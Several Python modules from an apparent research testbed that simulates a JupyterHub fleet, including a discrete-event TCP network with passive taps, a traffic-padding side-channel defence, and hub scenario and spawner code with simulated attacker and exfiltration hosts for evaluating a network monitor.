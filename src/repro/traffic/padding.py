"""Traffic-shaping countermeasures: size buckets and bounded jitter.

Timing/size side channels need two ingredients (see
:mod:`repro.traffic.fingerprint`): a stable per-path latency floor and a
response size that tracks content.  A :class:`PaddingPolicy` removes
both at the proxy: every response body is padded up to the next
``bucket_bytes`` boundary, and every send is delayed by a uniform draw
from ``[0, max_jitter]``.  Constant latency *offsets* cancel out of a
differential fingerprint (the attacker calibrates through the same
proxy), so the defense lives entirely in the jitter *spread* — it must
be wide relative to the latency structure being hidden (the
``GEO_LINKS`` shard separation is ~72 ms one-way; the default spread is
700 ms).

The cost is the other half of the tradeoff: padded bytes on the wire
and delayed responses.  ``benchmarks/test_traffic_sidechannel.py``
measures both (EXP-TRAFFIC / BENCH_TRAFFIC.json) and CI guards the
proxy hot-path overhead at <= 10%.

Declared model limits (DESIGN.md §7): bodies are padded with trailing
ASCII spaces — valid JSON inter-token whitespace, so every JSON client
in the repo parses padded responses unchanged — and WebSocket upgrade
responses (101) plus piped frames bypass shaping entirely: kernel
channels keep their timing.  A real deployment would pad at the frame
layer; this model scopes the countermeasure to the REST plane the
fingerprinter actually probes.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

from repro.util.rng import DeterministicRNG
from repro.wire.http import HttpResponse

#: The padding byte: JSON-legal whitespace, so ``json.loads`` on a
#: padded body behaves exactly as on the original.
PAD_BYTE = b" "

#: Jitter must keep worst-case responses inside the one-shot REST
#: client's 1.0 s network window (RTT + backend service + jitter < 1.0).
MAX_JITTER_CEILING = 0.9


@dataclass(frozen=True)
class PaddingPolicy:
    """Declarative shaping knobs, carried on :class:`WorldSpec`.

    ``bucket_bytes`` quantizes response sizes: an observer learns only
    ``ceil(len/bucket)``, i.e. log2(max_size/bucket) bits per response
    instead of the full length.  ``max_jitter`` bounds the uniform
    send-delay draw; responses on one connection still deliver in order
    (the proxy serializes delayed sends per channel).
    """

    enabled: bool = True
    bucket_bytes: int = 1024
    #: Wide relative to the structure being hidden: a min-of-N probe
    #: train estimates the latency floor with noise ~``max_jitter/N``,
    #: so hiding the ~72 ms GEO shard separation from short (3-6 probe)
    #: trains needs several hundred ms of spread.
    max_jitter: float = 0.7

    def __post_init__(self) -> None:
        if self.bucket_bytes < 1:
            raise ValueError(
                f"PaddingPolicy.bucket_bytes must be >= 1, got {self.bucket_bytes}")
        if not (0.0 <= self.max_jitter < MAX_JITTER_CEILING):
            raise ValueError(
                f"PaddingPolicy.max_jitter must be in [0, {MAX_JITTER_CEILING}) "
                f"to fit the 1 s request window, got {self.max_jitter}")

    def bucket_of(self, nbytes: int) -> int:
        """The padded size for an ``nbytes`` body: next multiple of
        ``bucket_bytes``, minimum one bucket (empty bodies pad too —
        a zero-length response is itself a distinctive size)."""
        return -(-max(nbytes, 1) // self.bucket_bytes) * self.bucket_bytes


class ResponsePadder:
    """Applies one :class:`PaddingPolicy` at a proxy, deterministically.

    The jitter stream comes from the world's seeded RNG (one child per
    proxy), never from wall clock or telemetry state — same seed, same
    spec, byte-identical response timeline, telemetry on or off.
    """

    def __init__(self, policy: PaddingPolicy, rng: DeterministicRNG):
        self.policy = policy
        self.rng = rng
        self.padded_responses = 0
        self.padding_bytes = 0
        self.jittered_responses = 0
        self.jitter_seconds = 0.0

    def pad(self, response: HttpResponse) -> HttpResponse:
        """Return ``response`` with its body padded to the bucket
        boundary (a new object; the original is never mutated — local
        hub responses are sometimes shared/reused by callers)."""
        body = response.body or b""
        target = self.policy.bucket_of(len(body))
        fill = target - len(body)
        if fill <= 0:
            return response
        self.padded_responses += 1
        self.padding_bytes += fill
        headers = dict(response.headers)
        # encode() computes Content-Length from the body; drop any
        # stale explicit header so the padded length wins.
        for key in [k for k in headers if k.lower() == "content-length"]:
            del headers[key]
        return HttpResponse(response.status, response.reason, headers,
                            body + PAD_BYTE * fill, response.version)

    def jitter(self) -> float:
        """One send-delay draw in ``[0, max_jitter]`` seconds."""
        delay = self.rng.uniform(0.0, self.policy.max_jitter)
        self.jittered_responses += 1
        self.jitter_seconds += delay
        return delay

    def summary(self) -> Dict[str, float]:
        return {
            "bucket_bytes": self.policy.bucket_bytes,
            "max_jitter": self.policy.max_jitter,
            "padded_responses": self.padded_responses,
            "padding_bytes": self.padding_bytes,
            "jittered_responses": self.jittered_responses,
            "jitter_seconds": round(self.jitter_seconds, 6),
        }
