"""Hosts, TCP-like connections, and passive taps.

The model is deliberately at the "reassembled TCP" level of abstraction:
segments are ordered, reliable, and at most ``mss`` bytes — what a Zeek
tap sees after its own reassembly.  Loss/retransmission modelling would
add realism the paper's experiments never exercise; segment *boundaries*
and *timing* are what the observability experiments need, and those are
faithful (per-link latency plus bandwidth pacing).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Tuple

from repro.simnet.loop import EventLoop
from repro.util.errors import ReproError
from repro.util.ids import new_id

DEFAULT_MSS = 1400


@dataclass(frozen=True)
class Segment:
    """One observed TCP segment (what a tap records)."""

    ts: float
    src: str
    sport: int
    dst: str
    dport: int
    payload: bytes
    flags: str = ""  # "S" syn, "F" fin, "" data
    conn_id: str = ""

    @property
    def size(self) -> int:
        return len(self.payload)

    def five_tuple(self) -> Tuple[str, int, str, int, str]:
        return (self.src, self.sport, self.dst, self.dport, "tcp")


class NetworkTap:
    """Passive observer of every segment crossing the network.

    The monitor subscribes a callback; the dataset builder records
    segments wholesale.  Taps never mutate traffic.
    """

    def __init__(self, name: str = "tap0"):
        self.name = name
        self.segments: List[Segment] = []
        self._subscribers: List[Callable[[Segment], None]] = []
        self.enabled = True

    def subscribe(self, fn: Callable[[Segment], None]) -> None:
        self._subscribers.append(fn)

    def observe(self, segment: Segment) -> None:
        if not self.enabled:
            return
        self.segments.append(segment)
        for fn in self._subscribers:
            fn(segment)

    def total_bytes(self) -> int:
        return sum(s.size for s in self.segments)

    def clear(self) -> None:
        self.segments.clear()


class FilteredTap(NetworkTap):
    """A tap with a vantage point: only segments touching ``only_ips``.

    Real sensors sit on a link, not on the whole world; a filtered tap
    models that — e.g. one tap per hub front-door shard, seeing the
    client↔shard and shard↔backend legs of that shard's traffic and
    nothing else.  An empty filter behaves like a plain (see-all) tap.
    """

    def __init__(self, name: str = "tap0", *, only_ips: Iterable[str] = ()):
        super().__init__(name)
        self.only_ips = frozenset(only_ips)

    def observe(self, segment: Segment) -> None:
        if self.only_ips and segment.src not in self.only_ips \
                and segment.dst not in self.only_ips:
            return
        super().observe(segment)


class TcpConnection:
    """A bidirectional ordered byte stream between two hosts.

    ``send`` chunks data into MSS-sized segments, schedules delivery
    after the link latency (plus bandwidth pacing), mirrors each segment
    to all taps, and invokes the peer's ``on_data`` callback on arrival.
    """

    def __init__(
        self,
        network: "Network",
        client: "Host",
        client_port: int,
        server: "Host",
        server_port: int,
    ):
        self.network = network
        self.client = client
        self.client_port = client_port
        self.server = server
        self.server_port = server_port
        self.conn_id = new_id("conn-")[:16]
        self.open = True
        # Per-direction receive callbacks, set by endpoints.
        self.on_data_client: Optional[Callable[[bytes], None]] = None
        self.on_data_server: Optional[Callable[[bytes], None]] = None
        self.on_close_client: Optional[Callable[[], None]] = None
        self.on_close_server: Optional[Callable[[], None]] = None
        # Pacing state per direction: time the link frees up.
        self._link_free_at: Dict[str, float] = {"c2s": 0.0, "s2c": 0.0}
        self.bytes_c2s = 0
        self.bytes_s2c = 0
        self.opened_at = network.loop.clock.now()

    # -- endpoint API --------------------------------------------------------
    def send_to_server(self, data: bytes) -> None:
        self._send("c2s", data)

    def send_to_client(self, data: bytes) -> None:
        self._send("s2c", data)

    def close(self, *, by_client: bool = True) -> None:
        if not self.open:
            return
        self.open = False
        direction = "c2s" if by_client else "s2c"
        self._emit_segment(direction, b"", flags="F")
        loop = self.network.loop
        latency = self.network.latency(self.client, self.server)
        cb_cb, cb_sb = self.on_close_client, self.on_close_server

        def deliver_close():
            if direction == "c2s" and cb_sb:
                cb_sb()
            elif direction == "s2c" and cb_cb:
                cb_cb()

        loop.call_later(latency, deliver_close)

    # -- internals ------------------------------------------------------------
    def _send(self, direction: str, data: bytes) -> None:
        if not self.open:
            raise ReproError(f"send on closed connection {self.conn_id}")
        if not data:
            return
        loop = self.network.loop
        latency = self.network.latency(self.client, self.server)
        bandwidth = self.network.bandwidth_bps
        now = loop.clock.now()
        depart = max(now, self._link_free_at[direction])
        mss = self.network.mss
        for i in range(0, len(data), mss):
            chunk = data[i : i + mss]
            if bandwidth > 0:
                depart += len(chunk) * 8.0 / bandwidth
            arrive = depart + latency
            self._schedule_delivery(direction, chunk, arrive)
        self._link_free_at[direction] = depart
        if direction == "c2s":
            self.bytes_c2s += len(data)
        else:
            self.bytes_s2c += len(data)

    def _schedule_delivery(self, direction: str, chunk: bytes, arrive: float) -> None:
        loop = self.network.loop

        def deliver():
            self._emit_segment(direction, chunk)
            if direction == "c2s" and self.on_data_server:
                self.on_data_server(chunk)
            elif direction == "s2c" and self.on_data_client:
                self.on_data_client(chunk)

        loop.call_at(max(arrive, loop.clock.now()), deliver)

    def _emit_segment(self, direction: str, payload: bytes, flags: str = "") -> None:
        ts = self.network.loop.clock.now()
        if direction == "c2s":
            seg = Segment(ts, self.client.ip, self.client_port, self.server.ip, self.server_port,
                          payload, flags, self.conn_id)
        else:
            seg = Segment(ts, self.server.ip, self.server_port, self.client.ip, self.client_port,
                          payload, flags, self.conn_id)
        for tap in self.network.taps:
            tap.observe(seg)


@dataclass
class Listener:
    """A bound (host, port) accepting connections."""

    host: "Host"
    port: int
    on_connect: Callable[[TcpConnection], None]
    bind_ip: str = "0.0.0.0"

    def accessible_from(self, src: "Host") -> bool:
        """Loopback binds only accept same-host connections."""
        if self.bind_ip in ("0.0.0.0", self.host.ip):
            return True
        if self.bind_ip == "127.0.0.1":
            return src is self.host
        return False


class Host:
    """An addressable endpoint: runs servers (listeners) and clients."""

    def __init__(self, network: "Network", name: str, ip: str):
        self.network = network
        self.name = name
        self.ip = ip
        self.listeners: Dict[int, Listener] = {}
        self._ephemeral = 49152

    def listen(self, port: int, on_connect: Callable[[TcpConnection], None], *, bind_ip: str = "0.0.0.0") -> Listener:
        if port in self.listeners:
            raise ReproError(f"{self.name}: port {port} already bound")
        lst = Listener(self, port, on_connect, bind_ip)
        self.listeners[port] = lst
        return lst

    def unlisten(self, port: int) -> None:
        self.listeners.pop(port, None)

    def next_ephemeral_port(self) -> int:
        self._ephemeral += 1
        return self._ephemeral

    def connect(self, dst: "Host", port: int) -> TcpConnection:
        """Open a connection to ``dst:port``; raises if nothing listens
        or the listener's bind address excludes us.  Refused attempts
        still emit a SYN/RST probe pair to the taps — port scans are
        visible to the monitor exactly as they are to a real sensor."""
        listener = dst.listeners.get(port)
        if listener is None or not listener.accessible_from(self):
            ts = self.network.loop.clock.now()
            sport = self.next_ephemeral_port()
            for tap in self.network.taps:
                tap.observe(Segment(ts, self.ip, sport, dst.ip, port, b"", "S"))
                tap.observe(Segment(ts, dst.ip, port, self.ip, sport, b"", "R"))
            if listener is None:
                raise ReproError(f"connection refused: {dst.name}:{port} not listening")
            raise ReproError(f"connection refused: {dst.name}:{port} bound to {listener.bind_ip}")
        conn = TcpConnection(self.network, self, self.next_ephemeral_port(), dst, port)
        conn._emit_segment("c2s", b"", flags="S")
        listener.on_connect(conn)
        return conn

    def __repr__(self) -> str:  # pragma: no cover
        return f"Host({self.name}@{self.ip})"


class Network:
    """The world: hosts, links, taps, and one event loop."""

    def __init__(
        self,
        loop: Optional[EventLoop] = None,
        *,
        default_latency: float = 0.001,
        bandwidth_bps: float = 0.0,  # 0 = infinite
        mss: int = DEFAULT_MSS,
    ):
        self.loop = loop or EventLoop()
        self.hosts: Dict[str, Host] = {}
        self.taps: List[NetworkTap] = []
        self.default_latency = default_latency
        self.bandwidth_bps = bandwidth_bps
        self.mss = mss
        self._latency_overrides: Dict[frozenset, float] = {}

    def add_host(self, name: str, ip: str) -> Host:
        if name in self.hosts:
            raise ReproError(f"duplicate host {name}")
        if any(h.ip == ip for h in self.hosts.values()):
            raise ReproError(f"duplicate ip {ip}")
        host = Host(self, name, ip)
        self.hosts[name] = host
        return host

    def add_tap(self, name: str = "tap0", *,
                only_ips: Optional[Iterable[str]] = None) -> NetworkTap:
        tap = FilteredTap(name, only_ips=only_ips) if only_ips else NetworkTap(name)
        self.taps.append(tap)
        return tap

    def set_latency(self, a: Host, b: Host, latency: float) -> None:
        self._latency_overrides[frozenset((a.name, b.name))] = latency

    def latency(self, a: Host, b: Host) -> float:
        if a is b:
            return 0.0
        return self._latency_overrides.get(frozenset((a.name, b.name)), self.default_latency)

    def run(self, duration: float) -> int:
        """Advance the world by ``duration`` seconds of simulated time."""
        return self.loop.run_until(self.loop.clock.now() + duration)
