"""Deterministic discrete-event network simulation.

The paper's experiments need a *network vantage point*: the monitor sits
on a tap and sees TCP segments between clients, the Jupyter server, and
attacker infrastructure.  This package provides that world:

- :class:`EventLoop` — a heap-based discrete-event scheduler driving a
  shared :class:`~repro.util.clock.SimClock`.
- :class:`Network` / :class:`Host` — addressable endpoints with latency
  and per-link bandwidth pacing.
- :class:`TcpConnection` — ordered byte streams with MSS chunking, so
  protocol parsers face realistic segment boundaries.
- :class:`NetworkTap` — the passive observer feeding the monitor
  :class:`Segment` records.

Determinism is absolute: same seed, same wiring → identical segment
timelines, which makes every benchmark and dataset reproducible.
"""

from repro.simnet.loop import EventLoop
from repro.simnet.net import (
    FilteredTap,
    Host,
    Listener,
    Network,
    NetworkTap,
    Segment,
    TcpConnection,
)

__all__ = [
    "EventLoop",
    "Network",
    "Host",
    "Listener",
    "TcpConnection",
    "NetworkTap",
    "FilteredTap",
    "Segment",
]
