"""Heap-based discrete-event scheduler.

The classic simulation kernel: events are ``(time, seq, callback)``
triples in a binary heap; ``run_until`` pops them in time order,
advancing the shared clock.  The tie-breaking sequence number guarantees
FIFO order among simultaneous events, which is what makes TCP delivery
order deterministic.
"""

from __future__ import annotations

import heapq
import itertools
from typing import Callable, List, Optional, Tuple

from repro.util.clock import SimClock


class EventLoop:
    """Discrete-event scheduler over a :class:`SimClock`."""

    def __init__(self, clock: Optional[SimClock] = None):
        self.clock = clock or SimClock()
        self._heap: List[Tuple[float, int, Callable[[], None]]] = []
        self._seq = itertools.count()
        self.events_processed = 0

    def call_at(self, t: float, fn: Callable[[], None]) -> None:
        """Schedule ``fn`` at absolute time ``t`` (>= now)."""
        if t < self.clock.now():
            raise ValueError(f"cannot schedule in the past: {t} < {self.clock.now()}")
        heapq.heappush(self._heap, (t, next(self._seq), fn))

    def call_later(self, delay: float, fn: Callable[[], None]) -> None:
        """Schedule ``fn`` after ``delay`` seconds."""
        if delay < 0:
            raise ValueError("delay must be non-negative")
        self.call_at(self.clock.now() + delay, fn)

    def pending(self) -> int:
        return len(self._heap)

    def next_event_time(self) -> Optional[float]:
        return self._heap[0][0] if self._heap else None

    def step(self) -> bool:
        """Run the single earliest event; False if the queue is empty."""
        if not self._heap:
            return False
        t, _, fn = heapq.heappop(self._heap)
        self.clock.advance_to(t)
        fn()
        self.events_processed += 1
        return True

    def run_until(self, t_end: float, *, max_events: int = 10_000_000) -> int:
        """Process events up to and including time ``t_end``.

        Returns the number of events processed.  The clock finishes at
        exactly ``t_end`` even if the queue drains earlier, so periodic
        observers see a consistent horizon.
        """
        n = 0
        while self._heap and self._heap[0][0] <= t_end:
            if n >= max_events:
                raise RuntimeError(f"event storm: more than {max_events} events before t={t_end}")
            self.step()
            n += 1
        if self.clock.now() < t_end:
            self.clock.advance_to(t_end)
        return n

    def run_all(self, *, max_events: int = 10_000_000) -> int:
        """Drain the queue completely."""
        n = 0
        while self.step():
            n += 1
            if n >= max_events:
                raise RuntimeError("event storm: queue never drained")
        return n
