"""The fleet-scale experiment world: proxy + spawner + N tenants.

:class:`HubScenario` extends the standard single-server
:class:`~repro.attacks.scenario.Scenario` so every existing attack,
workload, and benchmark runs unchanged — except that all client traffic
now enters through the hub's reverse proxy and fans out to per-user
backends on fleet nodes.  ``scenario.server`` is the *default tenant*'s
backend (the one attacks loot), ``scenario.server_host`` is the proxy
host, and clients carry a ``/user/<name>`` path prefix.

The network tap sits where the paper's monitor would: in front of the
proxy, seeing both the client↔proxy and proxy↔backend legs of every
request for the whole fleet.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.attacks.scenario import Scenario, SinkServer
from repro.hub.culler import IdleCuller
from repro.hub.proxy import ReverseProxy
from repro.hub.spawner import SpawnedServer, Spawner
from repro.hub.users import HubConfig, HubUserDirectory
from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.server import ServerConfig, WebSocketKernelClient
from repro.simnet import Network
from repro.util.rng import DeterministicRNG

DEFAULT_TENANTS_PER_NODE = 25


@dataclass
class HubScenario(Scenario):
    """A multi-tenant testbed behind one reverse proxy.

    ``server``/``gateway``/``token`` point at the default tenant so the
    single-server attack suite targets it transparently; the hub-aware
    extras (proxy, spawner, culler, user directory) enable fleet-level
    scenarios on top.
    """

    proxy: Optional[ReverseProxy] = None
    spawner: Optional[Spawner] = None
    culler: Optional[IdleCuller] = None
    hub: Optional[HubUserDirectory] = None
    hub_config: Optional[HubConfig] = None
    tenant_names: List[str] = field(default_factory=list)

    @property
    def default_tenant(self) -> str:
        return self.tenant_names[0] if self.tenant_names else "user00"

    # -- clients --------------------------------------------------------------
    def ensure_tenant(self, username: str) -> SpawnedServer:
        """Create + spawn on first use — the hub's lazy-spawn path."""
        assert self.hub is not None and self.spawner is not None
        user = self.hub.get(username)
        if user is None:
            user = self.hub.create(username)
            self.tenant_names.append(username)
        spawned = self.spawner.active.get(username)
        if spawned is None:
            spawned = self.spawner.spawn(user)
        return spawned

    def user_client(self, *, username: str = "") -> WebSocketKernelClient:
        """A client through the proxy.

        A ``username`` naming a hub account targets that tenant (spawning
        it on demand); any other name is just a session label on the
        *default* tenant — e.g. the single-server attacks' stolen victim
        sessions — mirroring the base scenario's semantics.
        """
        assert self.hub is not None
        name = username or self.default_tenant
        if self.hub.get(name) is not None:
            self.ensure_tenant(name)
            target, token = name, self.hub.users[name].token
        else:
            target, token = self.default_tenant, self.token
        return WebSocketKernelClient(
            self.user_host, self.server_host, port=self.proxy.config.port,
            token=token, username=name, path_prefix=f"/user/{target}")

    def attacker_client(self, *, token: str = "", username: str = "attacker",
                        tenant: str = "") -> WebSocketKernelClient:
        """A client from attacker infrastructure aimed (by default) at the
        default tenant's server, through the proxy."""
        target = tenant or self.default_tenant
        return WebSocketKernelClient(
            self.attacker_host, self.server_host, port=self.proxy.config.port,
            token=token, username=username, path_prefix=f"/user/{target}")

    def tenant_server(self, username: str):
        """The live backend for one tenant (None if stopped/culled)."""
        assert self.spawner is not None
        spawned = self.spawner.active.get(username)
        return spawned.server if spawned else None

    def audited_session(self, client: WebSocketKernelClient):
        """Start a kernel through ``client`` and attach an auditor — on
        whichever tenant backend the client's prefix points at."""
        from repro.audit import KernelAuditor

        prefix = client.path_prefix
        name = prefix[len("/user/"):] if prefix.startswith("/user/") else self.default_tenant
        server = self.tenant_server(name) or self.server
        kid = client.start_kernel()
        kernel = server.kernels[kid]
        auditor = KernelAuditor(kernel, monitor=self.monitor)
        self.auditors[kid] = auditor
        client.connect_channels()
        return auditor


def build_hub_scenario(
    *,
    n_tenants: int = 4,
    hub_config: Optional[HubConfig] = None,
    server_config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = DEFAULT_TENANTS_PER_NODE,
    tenant_prefix: str = "user",
) -> HubScenario:
    """Construct the fleet testbed: proxy front door, ``n_tenants``
    per-user servers across enough fleet nodes, attacker infrastructure,
    and a monitor on the proxy tap."""
    if n_tenants < 1:
        raise ValueError("a hub scenario needs at least one tenant")
    rng = DeterministicRNG(seed)
    net = Network(default_latency=0.002)
    proxy_host = net.add_host("hub", "10.0.0.2")
    n_nodes = max(1, -(-n_tenants // tenants_per_node))
    nodes = [net.add_host(f"node{i:02d}", f"10.0.1.{10 + i}") for i in range(n_nodes)]
    user_host = net.add_host("laptop", "10.0.0.42")
    attacker_host = net.add_host("attacker", "203.0.113.66")
    sink_host = net.add_host("exfil-sink", "198.51.100.9")
    pool_host = net.add_host("mining-pool", "198.51.100.77")
    tap = net.add_tap("hub-tap")

    hub_cfg = hub_config or HubConfig(api_token="hub-admin-token",
                                      max_servers=max(n_tenants + 8, 64))
    base_cfg = server_config or ServerConfig(ip="0.0.0.0", token="")

    users = HubUserDirectory(hub_cfg, net.loop.clock, rng=rng.child("hub-tokens"))
    spawner = Spawner(net, nodes, base_cfg, hub_cfg)
    proxy = ReverseProxy(net, proxy_host, users, hub_cfg, spawner=spawner)
    spawner.on_spawn.append(lambda s: proxy.add_route(s))
    spawner.on_stop.append(lambda name: proxy.remove_route(name))
    culler = IdleCuller(net.loop, spawner, proxy,
                        interval=hub_cfg.cull_interval,
                        idle_timeout=hub_cfg.cull_idle_timeout,
                        enabled=hub_cfg.culling_enabled)

    monitor = JupyterNetworkMonitor(depth=depth,
                                    budget_events_per_second=monitor_budget,
                                    infrastructure_ips={proxy_host.ip})
    # Same scale-model thresholds as the single-server testbed.
    monitor.egress.threshold_bytes = 20_000
    monitor.cusum.baseline = 200.0
    monitor.cusum.slack = 200.0
    monitor.cusum.h = 30_000.0
    monitor.attach(tap)

    exfil_sink = SinkServer(sink_host, 443)
    mining_pool = SinkServer(pool_host, 3333,
                             reply=b'{"id":1,"result":{"job":"deadbeef"},"error":null}\n')

    names = [f"{tenant_prefix}{i:02d}" for i in range(n_tenants)]
    for name in names:
        user = users.create(name)
        if spawn_all:
            spawner.spawn(user)
    if not spawn_all and names:
        spawner.spawn(users.users[names[0]])  # the default tenant always runs

    default = spawner.active[names[0]]
    scenario = HubScenario(
        network=net, server=default.server, gateway=default.gateway,
        monitor=monitor, tap=tap,
        server_host=proxy_host, user_host=user_host, attacker_host=attacker_host,
        exfil_sink=exfil_sink, mining_pool=mining_pool,
        token=users.users[names[0]].token, rng=rng,
        proxy=proxy, spawner=spawner, culler=culler,
        hub=users, hub_config=hub_cfg, tenant_names=list(names),
    )
    if seed_data:
        scenario.seed_research_data()
    return scenario
