"""The fleet-scale experiment world: proxy + spawner + N tenants.

:class:`HubScenario` extends the standard single-server
:class:`~repro.attacks.scenario.Scenario` so every existing attack,
workload, and benchmark runs unchanged — except that all client traffic
now enters through the hub's reverse proxy and fans out to per-user
backends on fleet nodes.  ``scenario.server`` is the *default tenant*'s
backend (the one attacks loot), ``scenario.server_host`` is the proxy
host, and clients carry a ``/user/<name>`` path prefix.

The network tap sits where the paper's monitor would: in front of the
proxy, seeing both the client↔proxy and proxy↔backend legs of every
request for the whole fleet.

Like the single-server module, this is a facade since the topology
refactor: :func:`build_hub_scenario` compiles the ``hub``
:class:`~repro.topology.spec.WorldSpec`; the sharded and honeypot-tenant
hub variants are sibling specs compiled by the same
:class:`~repro.topology.builder.WorldBuilder` (see DESIGN.md).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.attacks.scenario import Scenario
from repro.hub.culler import IdleCuller
from repro.hub.proxy import ReverseProxy
from repro.hub.spawner import SpawnedServer, Spawner
from repro.hub.users import HubConfig, HubUserDirectory
from repro.monitor import AnalyzerDepth
from repro.server import ServerConfig, WebSocketKernelClient
from repro.simnet import Host

DEFAULT_TENANTS_PER_NODE = 25


@dataclass
class HubScenario(Scenario):
    """A multi-tenant testbed behind one reverse proxy.

    ``server``/``gateway``/``token`` point at the default tenant so the
    single-server attack suite targets it transparently; the hub-aware
    extras (proxy, spawner, culler, user directory) enable fleet-level
    scenarios on top.
    """

    proxy: Optional[ReverseProxy] = None
    spawner: Optional[Spawner] = None
    culler: Optional[IdleCuller] = None
    hub: Optional[HubUserDirectory] = None
    hub_config: Optional[HubConfig] = None
    tenant_names: List[str] = field(default_factory=list)

    @property
    def default_tenant(self) -> str:
        return self.tenant_names[0] if self.tenant_names else "user00"

    @classmethod
    def build(cls, **kwargs) -> "HubScenario":
        """Compile the ``hub`` spec (same keywords as
        :func:`build_hub_scenario`)."""
        from repro.topology import WorldBuilder, hub_spec

        return WorldBuilder().build(hub_spec(**kwargs))

    def front_door_host(self, tenant: str) -> Host:
        """The front-door host serving ``/user/<tenant>`` — always the
        single proxy here; sharded hubs route by consistent hash."""
        return self.server_host

    # -- clients --------------------------------------------------------------
    def ensure_tenant(self, username: str) -> SpawnedServer:
        """Create + spawn on first use — the hub's lazy-spawn path."""
        assert self.hub is not None and self.spawner is not None
        user = self.hub.get(username)
        if user is None:
            user = self.hub.create(username)
            self.tenant_names.append(username)
        spawned = self.spawner.active.get(username)
        if spawned is None:
            spawned = self.spawner.spawn(user)
        return spawned

    def user_client(self, *, username: str = "") -> WebSocketKernelClient:
        """A client through the proxy.

        A ``username`` naming a hub account targets that tenant (spawning
        it on demand); any other name is just a session label on the
        *default* tenant — e.g. the single-server attacks' stolen victim
        sessions — mirroring the base scenario's semantics.
        """
        assert self.hub is not None
        name = username or self.default_tenant
        if self.hub.get(name) is not None:
            self.ensure_tenant(name)
            target, token = name, self.hub.users[name].token
        else:
            target, token = self.default_tenant, self.token
        return WebSocketKernelClient(
            self.user_host, self.front_door_host(target), port=self.proxy.config.port,
            token=token, username=name, path_prefix=f"/user/{target}")

    def attacker_client(self, *, token: str = "", username: str = "attacker",
                        tenant: str = "") -> WebSocketKernelClient:
        """A client from attacker infrastructure aimed (by default) at the
        default tenant's server, through that tenant's front door."""
        target = tenant or self.default_tenant
        return WebSocketKernelClient(
            self.attacker_host, self.front_door_host(target), port=self.proxy.config.port,
            token=token, username=username, path_prefix=f"/user/{target}")

    def tenant_server(self, username: str):
        """The live backend for one tenant (None if stopped/culled)."""
        assert self.spawner is not None
        spawned = self.spawner.active.get(username)
        return spawned.server if spawned else None

    def audited_session(self, client: WebSocketKernelClient):
        """Start a kernel through ``client`` and attach an auditor — on
        whichever tenant backend the client's prefix points at."""
        from repro.audit import KernelAuditor

        prefix = client.path_prefix
        name = prefix[len("/user/"):] if prefix.startswith("/user/") else self.default_tenant
        server = self.tenant_server(name) or self.server
        kid = client.start_kernel()
        kernel = server.kernels[kid]
        auditor = KernelAuditor(kernel, monitor=self.monitor)
        self.auditors[kid] = auditor
        client.connect_channels()
        return auditor


def build_hub_scenario(
    *,
    n_tenants: int = 4,
    hub_config: Optional[HubConfig] = None,
    server_config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = DEFAULT_TENANTS_PER_NODE,
    tenant_prefix: str = "user",
) -> HubScenario:
    """Construct the fleet testbed: proxy front door, ``n_tenants``
    per-user servers across enough fleet nodes, attacker infrastructure,
    and a monitor on the proxy tap — compiled from the ``hub`` spec."""
    return HubScenario.build(
        n_tenants=n_tenants, hub_config=hub_config, server_config=server_config,
        depth=depth, seed=seed, monitor_budget=monitor_budget,
        seed_data=seed_data, spawn_all=spawn_all,
        tenants_per_node=tenants_per_node, tenant_prefix=tenant_prefix,
    )
