"""Per-user server spawner: one hub, a fleet of backends.

Each spawn stands up a full :class:`~repro.server.app.JupyterServer` +
:class:`~repro.server.gateway.ServerGateway` on a fleet node host, with
its own port, filesystem, and (by default) its own access token — real
tenant isolation, so cross-tenant access is an *attack outcome*, never
an artifact of shared state.  Limits mirror JupyterHub's: a ceiling on
concurrently running servers and a spawn-rate throttle.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, replace
from typing import Callable, Deque, Dict, List, Optional, Set

from repro.hub.users import HubConfig, HubUser
from repro.server.app import JupyterServer
from repro.server.config import ServerConfig
from repro.server.gateway import ServerGateway
from repro.simnet import Host, Network
from repro.util.errors import ReproError

BASE_BACKEND_PORT = 8801


class SpawnError(ReproError):
    """Spawn refused; carries an HTTP-ish status for the hub API."""

    def __init__(self, message: str, *, status: int = 400):
        super().__init__(message)
        self.status = status


@dataclass
class SpawnedServer:
    """One running per-user backend."""

    username: str
    server: JupyterServer
    gateway: ServerGateway
    host: Host
    port: int
    started_at: float

    @property
    def url_prefix(self) -> str:
        return f"/user/{self.username}"


class Spawner:
    """Lazily spawns and stops per-user servers across fleet nodes."""

    def __init__(self, network: Network, nodes: List[Host],
                 base_config: ServerConfig, config: HubConfig,
                 *, seed_tenant_files: bool = True, telemetry=None):
        from repro.telemetry import Telemetry

        if not nodes:
            raise SpawnError("spawner needs at least one fleet node", status=500)
        self.network = network
        self.nodes = nodes
        self.base_config = base_config
        self.config = config
        self.seed_tenant_files = seed_tenant_files
        self.active: Dict[str, SpawnedServer] = {}
        #: Tenants under containment: their servers are stopped and any
        #: respawn is refused until :meth:`release`.
        self.quarantined: Set[str] = set()
        self.total_spawned = 0
        self.total_stopped = 0
        self._next_node = 0
        self._next_port: Dict[str, int] = {h.name: BASE_BACKEND_PORT for h in nodes}
        self._spawn_times: Deque[float] = deque()
        #: wiring hooks (the proxy registers its route table here)
        self.on_spawn: List[Callable[[SpawnedServer], None]] = []
        self.on_stop: List[Callable[[str], None]] = []
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        if self._tele_on:
            reg = self.telemetry.registry
            spawned_c = reg.counter("spawner_spawned_total",
                                    "Servers started over the run")
            stopped_c = reg.counter("spawner_stopped_total",
                                    "Servers stopped over the run")
            active_g = reg.gauge("spawner_active", "Servers currently running")
            quarantined_g = reg.gauge("spawner_quarantined",
                                      "Tenants currently under containment")

